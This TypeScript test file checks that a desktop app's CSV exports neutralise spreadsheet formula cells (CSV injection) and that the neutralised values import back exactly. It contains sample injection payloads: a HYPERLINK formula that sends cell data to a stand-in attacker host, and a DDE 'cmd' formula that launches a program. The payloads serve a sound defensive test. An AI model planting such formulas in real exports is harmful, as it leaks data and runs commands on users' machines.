/**
 * Issue 14, finding 7: no CSV Comparanda writes leaves a formula live (OWASP CSV injection), and the product's own
 * neutralised cells import back exactly.
 */
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { auditCsv } from '../../electron/core/audit';
import { exportCsv, importCsv } from '../../electron/core/csv-data';
import { neutraliseFormulaCell, restoreFormulaCell } from '../../electron/core/csv/formulas';
import { updateCell } from '../../electron/core/edit';
import { exportProject } from '../../electron/core/export';
import { matrixTables } from '../../electron/core/matrix';
import { matrixToCsv } from '../../electron/core/matrix-format';
import { Project } from '../../electron/core/project';
import { listClaims, saveClaim } from '../../electron/core/record';
import { writeSampleProject } from '../../electron/core/sample';
import fs from 'node:fs';
import { tempDir } from '../helpers/temp';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', "'=already quoted", "''+twice"];
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[-+]?\d+([.,]\d+)?$/.test(cell);

function sample() {
  const file = path.join(tempDir(), 's.comparanda');
  writeSampleProject(file);
  return Project.open(file);
}

describe('formula cells in CSV', () => {
  it('neutralises and restores by the same rule, leaving plain numbers alone', () => {
    for (const value of [...HOSTILE, '-5', '+3.2', '1e-3', 'plain', '', "'quoted but harmless"]) {
      expect(restoreFormulaCell(neutraliseFormulaCell(value)), JSON.stringify(value)).toBe(value);
      expect(live(neutraliseFormulaCell(value)), JSON.stringify(value)).toBe(false);
    }
    expect(neutraliseFormulaCell('-5')).toBe('-5');
  });

  it('data, publication, audit and matrix CSVs hold no live formula, and the data CSV re-imports exactly', async () => {
    const p = sample();
    const dir = tempDir();
    for (const [i, value] of HOSTILE.entries()) saveClaim(p, { claimant: `Claimant ${i}`, statement: value, reasoning: value });
    const o = p.overview();
    updateCell(p, { caseId: o.cases[0]!.id, normId: o.norms[0]!.id, stageId: o.frameworks[0]!.stages[0]!.id, patch: { summary: '=1+1' } });

    const data = exportCsv(p, { kind: 'claims' }).text;
    const published = path.join(dir, 'claims.csv');
    await exportProject(p, { what: 'claims', format: 'csv', out: published });
    const outputs = { data, published: fs.readFileSync(published, 'utf8'), audit: auditCsv(p), matrix: matrixToCsv(matrixTables(p, {})) };
    for (const [name, text] of Object.entries(outputs)) {
      const cells = (parse(text, { relax_column_count: true }) as string[][]).flat();
      expect(cells.filter(live), name).toEqual([]);
    }
    expect((parse(data) as string[][]).flat()).toContain("'=cmd|' /C calc'!A0");

    // The exported file, imported into a fresh project, gives back every hostile value as it was.
    const fresh = sample();
    fresh.db.prepare('DELETE FROM claims').run();
    importCsv(fresh, { kind: 'claims', text: data, createMissing: true });
    const statements = listClaims(fresh).map((c) => c.statement);
    for (const value of HOSTILE) expect(statements, JSON.stringify(value)).toContain(value);
    expect(listClaims(fresh).map((c) => c.reasoning)).toEqual(expect.arrayContaining(HOSTILE));
    fresh.close();
    p.close();
  }, 60_000);
});
